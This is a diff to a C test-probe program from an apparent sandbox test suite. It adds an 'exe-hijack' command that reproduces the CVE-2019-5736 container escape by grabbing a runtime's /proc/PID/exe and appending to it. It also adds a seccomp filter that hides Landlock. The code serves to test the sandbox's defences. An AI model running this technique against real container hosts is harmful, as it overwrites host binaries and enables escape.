@@ -28,13 +28,16 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
+#include <linux/audit.h>
 #include <linux/bpf.h>
+#include <linux/filter.h>
 #include <linux/io_uring.h>
 #include <linux/kexec.h>
 #include <linux/keyctl.h>
 #include <linux/perf_event.h>
 #include <linux/reboot.h>
 #include <linux/sched.h>
+#include <linux/seccomp.h>
 #include <linux/userfaultfd.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
@@ -1629,6 +1632,162 @@ static int cmd_memfd_exec(int argc, char **argv)
 
 static int cmd_help(int argc, char **argv);
 
+/* ---- CVE-2019-5736 (OCI runtime tests) ---- */
+
+static bool same_file(int fd, const char *path)
+{
+	struct stat a, b;
+
+	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
+	       a.st_ino == b.st_ino;
+}
+
+/* Open /proc/PID/exe, retrying in a tight loop while access is refused and
+ * the process lives: the window between a runtime's execve and the exit of
+ * a short program is short.  -errno of the last failure. */
+static int grab_exe(int pid, struct timespec until, int *refused)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	for (;;) {
+		struct timespec now;
+
+		fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd >= 0)
+			return fd;
+		if (errno != EACCES && errno != EPERM)
+			return -errno;
+		*refused = errno;
+		clock_gettime(CLOCK_MONOTONIC, &now);
+		if (now.tv_sec > until.tv_sec)
+			return -errno;
+	}
+}
+
+/*
+ * exe-hijack SECONDS: what a container does to a runtime that enters it.
+ * Watch /proc for processes that were not there at the start and open
+ * each one's /proc/PID/exe (O_PATH), retrying while access is refused and
+ * it lives.  For the first that opens and is not a file of the container
+ * (this probe, /bin/busybox), wait until nothing executes it any more
+ * (ETXTBSY), reopen it for writing through /proc/self/fd and append a
+ * line.  Prints seen=N (new processes), opened=N, refused=ERRNO (the last
+ * refusal of an open, even one later retried with success), write=ok|ERRNO.
+ */
+static int cmd_exe_hijack(int argc, char **argv)
+{
+	bool bad = false;
+	long secs = parse_long(argv[0], "SECONDS", &bad);
+	int done[512], n_done = 0, seen = 0, opened = 0, refused = 0, held = -1;
+	struct timespec t0, now;
+	DIR *d;
+	struct dirent *e;
+
+	(void)argc;
+	if (bad)
+		return usage_error("SECONDS: expected a number");
+	d = opendir("/proc");
+	while (d && (e = readdir(d)) != NULL && n_done < 512)
+		if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
+			done[n_done++] = atoi(e->d_name);
+	if (d)
+		closedir(d);
+	printf("ready\n");
+	fflush(stdout);
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	for (;;) {
+		clock_gettime(CLOCK_MONOTONIC, &now);
+		if (now.tv_sec - t0.tv_sec >= secs)
+			break;
+		d = opendir("/proc");
+		while (d && held < 0 && (e = readdir(d)) != NULL) {
+			struct timespec until;
+			int pid, i, fd;
+			bool skip = false;
+
+			if (e->d_name[0] < '0' || e->d_name[0] > '9')
+				continue;
+			pid = atoi(e->d_name);
+			for (i = 0; i < n_done && !skip; i++)
+				skip = done[i] == pid;
+			if (skip || pid == getpid() || n_done >= 512)
+				continue;
+			done[n_done++] = pid;
+			seen++;
+			clock_gettime(CLOCK_MONOTONIC, &until);
+			until.tv_sec += 3;
+			fd = grab_exe(pid, until, &refused);
+			if (fd < 0)
+				continue;
+			/* Never touch the container's own files. */
+			if (same_file(fd, "/proc/self/exe") || same_file(fd, "/bin/busybox")) {
+				close(fd);
+				continue;
+			}
+			opened++;
+			held = fd;
+		}
+		if (d)
+			closedir(d);
+		if (held >= 0)
+			break;
+	}
+	add("seen=%d", seen);
+	add("opened=%d", opened);
+	if (refused)
+		add("refused=%s", errname(refused));
+	if (held >= 0) {
+		char path[64];
+		int w = -1, tries;
+
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+		for (tries = 0; tries < 20000; tries++) {
+			w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+			if (w >= 0 || errno != ETXTBSY)
+				break;
+			usleep(1000);
+		}
+		if (w < 0) {
+			add("write=%s", errname(errno));
+		} else {
+			static const char mark[] = "\nexe-hijack was here\n";
+
+			add("write=%s",
+			    write(w, mark, sizeof(mark) - 1) < 0 ? errname(errno) : "ok");
+			close(w);
+		}
+	}
+	return ok();
+}
+
+/*
+ * no-landlock CMD [ARGS...]: run CMD as on a kernel without Landlock (a
+ * seccomp filter makes the three landlock_* calls fail with ENOSYS, so
+ * ward finds no ABI), to test the layers beneath it on their own.
+ */
+static int cmd_no_landlock(int argc, char **argv)
+{
+	struct sock_filter f[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 0, 5),
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 444, 2, 0), /* landlock_create_ruleset */
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 445, 1, 0), /* landlock_add_rule */
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 446, 0, 1), /* landlock_restrict_self */
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
+
+	(void)argc;
+	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
+		return setup_error("seccomp");
+	execvp(argv[0], argv);
+	return setup_error("execvp");
+}
+
 /* ---- dispatch ---- */
 
 static const struct command {
@@ -1710,6 +1869,10 @@ static const struct command {
 	{"spawn", 0, 2, cmd_spawn, "[N [SECONDS]]  N sleeping children, print ready, sleep"},
 	{"memfd-exec", 2, 17, cmd_memfd_exec,
 	 "NAME COMMAND [ARGS...]  run COMMAND from a memfd named NAME"},
+	{"exe-hijack", 1, 1, cmd_exe_hijack,
+	 "SECONDS  open a new process's /proc/PID/exe, write it once unused"},
+	{"no-landlock", 1, 64, cmd_no_landlock,
+	 "CMD [ARGS...]  run CMD as if the kernel had no Landlock"},
 	{"exit", 1, 1, cmd_exit, "CODE  exit with CODE"},
 	{"raise", 1, 1, cmd_raise, "SIG  die of signal SIG"},
 	{"help", 0, 0, cmd_help, "  this list"},
